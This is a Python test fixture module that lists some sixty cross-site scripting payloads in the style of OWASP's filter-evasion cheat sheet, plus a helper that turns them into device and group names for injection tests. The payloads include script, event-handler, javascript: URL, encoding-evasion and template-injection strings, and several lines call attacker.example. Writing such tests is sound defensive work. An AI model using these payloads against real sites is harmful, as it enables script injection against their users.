"""Texts that would run something in a page that took them for markup.

They are in the spirit of OWASP's cheat sheet on the evasion of filters. Each would set `window.attacked`,
open a dialog, or ask another host for something.
"""

from tests.console.screen import ATTACKED

_RUN = f"window.{ATTACKED}=1"

ATTACKS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{_RUN}></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</pre></td></table><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    f"<img/src=x/onerror={_RUN}>",
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<math><mi//xlink:href=javascript:{_RUN}>x</mi></math>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{ATTACKED}=1</script>'></iframe>",
    f"<object data=data:text/html,<script>{_RUN}</script>></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<link rel=stylesheet href=javascript:{_RUN}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>",
    "<base href=https://attacker.example/>",
    f"<form action=javascript:{_RUN}><input type=submit autofocus onfocus={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<div style=background:url(https://attacker.example/x)>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java script:{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"`-{_RUN}-`",
    f"';{_RUN};'",
    f'";{_RUN};"',
    f"\\';{_RUN};//",
    "__proto__",
    "constructor",
    f"<x onpointerrawupdate={_RUN} onmouseover={_RUN} style=position:fixed;inset:0>x",
    f"\u202e<img src=x onerror={_RUN}>",
    f"<img src=x onerror\u00a0={_RUN}>",
    f"＜script＞{_RUN}＜/script＞",
)

# Names cannot have these characters: what is left of the text stays an attack where it can.
_NOT_IN_NAMES = str.maketrans({"/": "\u2215", "+": "", "#": "", "$": "S", "@": ""})


def as_name(attack: str) -> str:
    """An attack as the name of a device, or of a group."""
    name = attack.translate(_NOT_IN_NAMES)[:128]
    return name or "x"


# And with what a name can have of a slash-free attack, which runs as it is.
NAMES = tuple(dict.fromkeys(as_name(attack) for attack in ATTACKS))
